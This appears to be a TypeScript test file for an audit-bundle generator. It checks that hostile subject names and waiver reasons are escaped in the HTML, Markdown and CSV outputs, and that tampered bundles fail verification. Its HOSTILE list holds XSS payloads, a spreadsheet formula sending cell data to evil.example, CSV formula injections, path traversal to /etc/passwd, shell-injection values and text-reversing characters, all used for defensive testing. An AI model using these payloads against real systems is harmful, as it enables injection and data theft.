/**
 * Bundles by attackers: names and reasons that would run, hide, or compute where people read them; files of one bundle in another;
 * another log's bundle; a period that was cut. Good texts are shown harmless, and everything else is named.
 */
import t from 'tap';
import { makeBundle } from '#src/audit/bundle/make.ts';
import { verdictLines } from '#src/audit/bundle/told.ts';
import { verifyBundle } from '#src/audit/bundle/verify.ts';
import { readContainer } from '#src/audit/zip/read.ts';
import { Refusal } from '#src/bytes/refusal.ts';
import { decodeUtf8 } from '#src/bytes/text.ts';
import { SALTED_TREE } from '#src/statement/saltedleaf.ts';
import { parseStatement } from '#src/statement/parse.ts';
import { encodeCommitment, encodeWaiver } from '#src/statement/payload.ts';
import { readerOf, refitted, storyTrust } from '../support/bundle-raw.ts';
import { claimOf, DAY, hashOf, HOUR, PastStory, people, T } from '../support/past-story.ts';
import { ownStatement } from '../support/world.ts';

t.setTimeout(300_000);

const START = T('2026-01-01');
const period = { since: START + DAY, until: START + 3 * DAY };

const HOSTILE = [
  'prod/<script>alert(1)</script>',
  'prod/"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1+1',
  '@SUM(A1)',
  '-2+3|calc',
  'prod/\u202egnp.exe',
  'prod/\u2066hidden\u2069',
  'prod/\u200bzero',
  'prod/\u2028line',
  'prod/\u001b[31mred',
  'prod/a\nb',
  'prod/a\rb',
  'prod/\0nul',
  '../../etc/passwd',
  'CON',
  'prod/case',
  'PROD/CASE',
  'prod/`$(touch owned)`',
  'prod/```sh\nowned',
  "prod/'; touch owned; '",
  'x'.repeat(1024),
  'x'.repeat(1025),
];

/** A log with every subject that a log takes, each claimed and waived with a hostile owner and reason. */
async function hostileStory(): Promise<{ readonly story: PastStory; readonly subjects: readonly string[] }> {
  const story = await PastStory.start(START);
  await story.at(START + HOUR).witness();
  const subjects: string[] = [];
  for (const subject of HOSTILE)
    try {
      const payload = encodeCommitment({
        environment: 'prod',
        tier: 'background',
        source: { kind: 'json' },
        canon: { profile: 'json@1' },
        tree: { alg: SALTED_TREE, leaves: 1, root: hashOf(subject) },
        scope: { world: 'open' },
        claims: [claimOf('tls')],
      });
      const statement = await ownStatement('commitment', subject, payload, people.author);
      parseStatement(statement);
      const commitment = story.append(statement);
      const waiver = encodeWaiver({
        commitment,
        claims: ['tls'],
        owner: '=<b>owner</b>',
        reason: '<script>alert(2)</script>\n=1+1\u202e "quoted"',
        notAfter: START + 2 * DAY,
      });
      await story.say('waiver', waiver, people.approver, subject);
      subjects.push(subject);
    } catch (error) {
      if (!(error instanceof Refusal)) throw error;
      t.comment(`no log takes ${JSON.stringify(subject.slice(0, 40))}: ${error.message.slice(0, 80)}`);
    }
  for (let day = 1; day < 5; day++) await story.at(START + day * DAY).witness();
  story.at(story.now + 60);
  return { story, subjects };
}

const DIRECTION = /[\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]/u;

t.test('texts of strangers', async (t) => {
  const { story, subjects } = await hostileStory();
  t.ok(subjects.length > 10);
  const snapshot = await readerOf(story).snapshot();
  const controls = ['SOC2-2017 CC6.7'];
  const asked = { subjects, period, controls, madeWith: '0.0.0' };
  const bundle = await makeBundle({ snapshot, trust: storyTrust, ...asked });
  const verdict = await verifyBundle(bundle, { trust: storyTrust });
  t.equal(verdict.result, 'verified');
  const files = readContainer(bundle);
  for (const name of files.keys())
    t.match(name, /^[A-Za-z0-9][A-Za-z0-9./_-]*$/, 'no name of a file is a text of a stranger');

  const page = decodeUtf8(files.get('index.html') ?? new Uint8Array());
  t.notMatch(page, /<(?:script|img|b)\b/i, 'nothing of it is markup');
  t.notMatch(page, DIRECTION, 'nothing turns the text around');
  // oxlint-disable-next-line no-control-regex -- control characters are what must not be there
  t.notMatch(page, /[\0-\x08\x0b-\x1f]/);
  t.match(page, /&lt;script&gt;alert\(1\)/, 'it is shown as what it is');

  const hand = decodeUtf8(files.get('VERIFY-BY-HAND.md') ?? new Uint8Array());
  t.notMatch(hand, /owned|alert/, 'no command is made of it');
  t.equal(hand.split('```').length % 2, 1, 'fences are paired');

  for (const { text } of verdictLines(verdict)) {
    t.notMatch(text, DIRECTION);
    // oxlint-disable-next-line no-control-regex -- the same
    t.notMatch(text, /[\0-\x1f\x7f]/);
  }
  for (const name of ['controls.csv', 'attachments.csv', 'entries/index.csv']) {
    const csv = decodeUtf8(files.get(name) ?? new Uint8Array());
    t.notMatch(csv, /(?:^|,|\n)"?[=+@\t\r-](?!\d+(?:,|\n|$))/, `${name}: no cell is a formula`);
  }
});

t.test('the files of one bundle in another', async (t) => {
  const made = async (day: number): Promise<Uint8Array> => {
    const story = await PastStory.start(START);
    const commitment = await story.at(START + HOUR).commit([claimOf('tls')]);
    for (let each = 0; each < 5; each++) {
      await story.at(START + each * DAY + 12 * HOUR).witness();
      await story.prove(commitment, { tls: each === day ? 'VIOLATED' : 'PROVEN' });
    }
    await story.at(START + 5 * DAY).witness();
    story.at(story.now + 60);
    const snapshot = await readerOf(story).snapshot();
    const asked = { subjects: [story.subject], period, madeWith: '0.0.0' };
    return makeBundle({ snapshot, trust: storyTrust, ...asked });
  };
  const [green, red] = [await made(9), await made(2)];
  t.equal((await verifyBundle(red, { trust: storyTrust })).result, 'verified');
  const own = readContainer(red);
  for (const [name, content] of readContainer(green)) {
    if (name === 'manifest.json' || name === 'SHA256SUMS') continue;
    if (Buffer.compare(content, own.get(name) ?? new Uint8Array()) === 0) continue;
    const { result, checks } = await verifyBundle(refitted(red, { [name]: content }), { trust: storyTrust });
    const failed = checks.find(({ outcome }) => outcome === 'failed');
    t.equal(result, 'failed', `${name}: ${failed?.name ?? ''}`);
  }
  for (const [what, change] of [
    ['a day less', { since: period.since, until: period.until - DAY }],
    ['from a day later', { since: period.since + DAY, until: period.until }],
    ['half of it', { since: period.since, until: period.since + DAY }],
  ] as const) {
    const { result, checks } = await verifyBundle(refitted(red, {}, { period: change }), {
      trust: storyTrust,
    });
    t.equal(result, 'failed', what);
    t.equal(checks.find(({ outcome }) => outcome === 'failed')?.name, 'made again', what);
  }
});
